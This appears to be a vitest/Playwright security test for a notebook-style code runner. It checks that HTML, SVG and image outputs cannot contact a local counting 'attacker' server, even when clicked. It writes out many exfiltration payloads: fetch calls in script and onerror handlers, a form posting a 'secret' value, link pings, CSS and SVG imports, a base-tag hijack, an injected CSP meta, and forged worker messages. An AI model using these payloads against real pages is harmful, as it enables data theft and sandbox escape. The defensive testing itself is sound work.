import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { Browser, Page } from 'playwright-core'
import { launchChromium } from '../support/chromium.js'
import { startReactPage, type ReactPageServer } from '../support/react-page.js'

// Rich outputs try every way an inert document has to reach the network: subresources of every kind, nested
// frames, preloads, navigation and form submission. The host page sends no CSP at all, so nothing but the
// renderer stands between the output and the attacker's server, which counts every request and connection.

/** An attacker server on its own origin that answers everything and counts requests and TCP connections. */
interface Attacker {
  url: string
  paths: string[]
  connections: number
  close(): Promise<void>
}

async function startAttacker(): Promise<Attacker> {
  const state = { paths: [] as string[], connections: 0 }
  const server: Server = createServer((req, res) => {
    state.paths.push(req.url ?? '')
    res.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/plain' })
    res.end('hit')
  })
  server.on('connection', () => (state.connections += 1))
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  return {
    url: `http://127.0.0.1:${port}`,
    get paths() {
      return state.paths
    },
    get connections() {
      return state.connections
    },
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections()
        server.close(() => resolve())
      }),
  }
}

/** One document that asks for the network in every way markup can, each request named after its kind. */
function attackHtml(a: string): string {
  return `
<link rel="preload" href="${a}/preload" as="image">
<link rel="prefetch" href="${a}/prefetch">
<link rel="stylesheet" href="${a}/link-stylesheet">
<link rel="icon" href="${a}/link-icon">
<link rel="modulepreload" href="${a}/modulepreload">
<link rel="preconnect" href="${a}">
<link rel="dns-prefetch" href="${a}">
<link rel="prerender" href="${a}/prerender">
<link rel="next" href="${a}/next">
<link rel="manifest" href="${a}/manifest">
<meta http-equiv="refresh" content="0;url=${a}/meta-refresh">
<style>
@import url("${a}/css-import");
@font-face { font-family: leak; src: url("${a}/font-face"); }
.leak { background-image: url("${a}/style-url"); font-family: leak; cursor: url("${a}/cursor"), auto;
  list-style-image: url("${a}/list-style"); border-image: url("${a}/border-image") 30; }
</style>
<p class="leak">styled</p>
<ul class="leak"><li>item</li></ul>
<div style="background: url('${a}/style-attribute')">attribute</div>
<img src="${a}/img">
<img src="data:," srcset="${a}/srcset 1x, ${a}/srcset2 2x">
<img src="${a}/img-lazy" loading="lazy">
<picture><source srcset="${a}/picture-source"><img src="data:," alt=""></picture>
<input type="image" src="${a}/input-image" alt="">
<video poster="${a}/video-poster" src="${a}/video-src" preload="auto"><track src="${a}/track" default></video>
<video preload="auto"><source src="${a}/video-source"></video>
<audio src="${a}/audio" preload="auto"></audio>
<iframe src="${a}/iframe"></iframe>
<iframe srcdoc="<img src='${a}/nested-srcdoc-img'>"></iframe>
<object data="${a}/object"></object>
<embed src="${a}/embed">
<table background="${a}/table-background"><tr><td background="${a}/td-background">cell</td></tr></table>
<svg xmlns="http://www.w3.org/2000/svg" width="60" height="60">
  <image href="${a}/svg-image" width="10" height="10"/>
  <use href="${a}/svg-use.svg#x"/>
  <filter id="f"><feImage href="${a}/svg-feimage"/></filter>
  <rect width="5" height="5" filter="url(#f)"/>
  <foreignObject width="20" height="20"><img xmlns="http://www.w3.org/1999/xhtml" src="${a}/svg-foreign-img"/></foreignObject>
</svg>
<script>fetch("${a}/script")</script>
<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["${a}/speculation"]}]}</script>
<img src="x" onerror="fetch('${a}/onerror')">
<form id="leak-form" action="${a}/form" method="post"><input name="secret" value="42"><button id="leak-submit">send</button></form>
<a id="leak-link" href="${a}/link-click" ping="${a}/ping">link</a>
<svg width="40" height="20"><a id="leak-svg-link" href="${a}/svg-link-click"><rect width="40" height="20"/></a></svg>
<base href="${a}/base/"><img src="after-base">
`
}

/** Markup that tries to get ahead of, or out from under, whatever the renderer put first. */
function escapeHtml(a: string): string {
  return `</head></html><!-- --><html><head>
<meta http-equiv="Content-Security-Policy" content="default-src *; img-src *">
<base href="${a}/escape-base/"></head><body background="${a}/body-background">
<img src="escape-relative"><img src="${a}/escape-img"></body></html>`
}

/** A frameset document: the one way to get <frame>, which needs the body never to have started. */
function framesetHtml(a: string): string {
  return `<frameset><frame src="${a}/frame"></frameset>`
}

/** An SVG document: shown as an image, it must not load what it names. */
function svgDoc(a: string): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40">
<style>@import url("${a}/svg-doc-import");</style>
<image href="${a}/svg-doc-image" width="10" height="10"/><image xlink:href="${a}/svg-doc-xlink" width="10" height="10"/>
<use href="${a}/svg-doc-use.svg#x"/><script>fetch("${a}/svg-doc-script")</script>
<rect width="40" height="40" fill="url(${a}/svg-doc-fill#p)"/></svg>`
}

// A 1x1 transparent PNG.
const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII='

const APP = String.raw`
import { createRoot } from 'react-dom/client'
import { CodeRunner, RuncellProvider } from '@runcell/react'
const code = window.ATTACK_CODE
createRoot(document.getElementById('root')).render(
  <RuncellProvider config={{ assetsBaseUrl: window.RUNCELL_ASSETS, timeoutMs: 60000 }}>
    <main>
      <CodeRunner id="py" language="python" title="Python" code={code.python} loading="eager" />
      <CodeRunner id="js" language="javascript" title="JavaScript" code={code.javascript} loading="eager" />
    </main>
  </RuncellProvider>,
)
`

let server: ReactPageServer
let attacker: Attacker
let browser: Browser
let page: Page

beforeAll(async () => {
  attacker = await startAttacker()
  server = await startReactPage(APP, 'Host page without CSP')
  browser = await launchChromium()
})
afterAll(async () => {
  await browser?.close()
  await server?.close()
  await attacker?.close()
})

function pythonCode(a: string): string {
  const outputs = [attackHtml(a), escapeHtml(a), framesetHtml(a)]
  return `
import base64
class Html:
    def __init__(self, html): self.html = html
    def _repr_html_(self): return self.html
class Svg:
    def _repr_svg_(self): return ${JSON.stringify(svgDoc(a))}
class Png:
    def _repr_png_(self): return base64.b64decode(${JSON.stringify(PNG)})
class Bundle:
    def _repr_mimebundle_(self): return {'text/html': ${JSON.stringify(attackHtml(`${a}/bundle`))}}
for html in ${JSON.stringify(outputs)}:
    display(Html(html))
display(Svg(), Png(), Bundle())
Html(${JSON.stringify(attackHtml(`${a}/last-expression`))})
`
}

// The JavaScript engine shows values as text; a snippet could get an HTML output only by forging the worker's
// output message (the worker is untrusted), so that is what this one tries: since issue 14 §3 it fails.
function javascriptCode(a: string): string {
  return `
const real = self.postMessage
let runId
self.postMessage = (message, ...rest) => {
  if (message && typeof message.runId === 'string') runId = message.runId
  return real.call(self, message, ...rest)
}
console.log('probe')
await new Promise((resolve) => setTimeout(resolve, 20))
self.postMessage = real
for (const data of ${JSON.stringify([attackHtml(`${a}/js`), escapeHtml(`${a}/js`)])}) {
  real.call(self, { kind: 'runcell:event', runId, event: { type: 'display', mime: 'text/html', data } })
}
real.call(self, { kind: 'runcell:event', runId, event: { type: 'display', mime: 'image/svg+xml', data: ${JSON.stringify(svgDoc(`${a}/js`))} } })
`
}

/** Within `ms`, or undefined: a click on a frame that navigates away may never settle. */
function within<T>(promise: Promise<T>, ms: number): Promise<T | undefined> {
  return Promise.race([promise, new Promise<undefined>((resolve) => setTimeout(resolve, ms))])
}

/**
 * Brings each HTML output into view (frames mount only near the viewport), lets it load, and clicks what a
 * reader might click there: the form button, the SVG link and the link. Returns how many clicks landed.
 */
async function viewAndClickEverything(): Promise<number> {
  let clicked = 0
  for (const box of await page.locator('.rc-html-box').all()) {
    await box.scrollIntoViewIfNeeded()
    const handle = await box.locator('iframe').elementHandle({ timeout: 5_000 })
    const frame = await handle.contentFrame()
    if (!frame) continue
    await frame.waitForLoadState('load').catch(() => undefined)
    await page.waitForTimeout(300)
    for (const selector of ['#leak-submit', '#leak-svg-link', '#leak-link']) {
      const target = await within(frame.$(selector), 2_000).catch(() => undefined)
      if (!target) continue
      const done = target.click({ timeout: 2_000, force: true, noWaitAfter: true }).then(
        () => true,
        () => false,
      )
      if (await within(done, 3_000)) clicked += 1
    }
  }
  return clicked
}

test('HTML, SVG and PNG outputs of Python and JavaScript make no request, even when clicked, on a host page without CSP', async () => {
  page = await browser.newPage()
  const code = { python: pythonCode(attacker.url), javascript: javascriptCode(attacker.url) }
  await page.addInitScript((attack) => Object.assign(window, { ATTACK_CODE: attack }), code)
  await page.goto(server.url())
  await page.waitForSelector('#js .cm-content')
  for (const id of ['py', 'js']) {
    await page.click(`#${id} button.rc-run`)
    await page.waitForSelector(`#${id}[data-status="ok"]`, { timeout: 90_000 })
  }
  // Every output rendered: the host really shows what the attacker wrote.
  expect(await page.locator('#py .rc-html-box').count()).toBe(5)
  expect(await page.locator('#py .rc-image').count()).toBe(2)
  // JavaScript could show HTML only by forging the engine's messages; since the engine talks to the runner over a
  // private port (issue 14 §3), the forgery reaches nothing, so its attack renders no output at all.
  expect(await page.locator('#js .rc-html-box').count()).toBe(0)
  expect(await page.locator('#js .rc-image').count()).toBe(0)
  const clicked = await viewAndClickEverything()
  await page.waitForTimeout(1_500)
  console.log(
    `html-output-phones-home: ${attacker.paths.length} requests, ${attacker.connections} connections, ${clicked} clicks:`,
    JSON.stringify(attacker.paths),
  )
  // The Python outputs' clickable parts (the JavaScript half's three forged outputs no longer render).
  expect(clicked).toBe(9)
  expect(attacker.paths).toEqual([])
  expect(attacker.connections).toBe(0)
  await page.close()
})
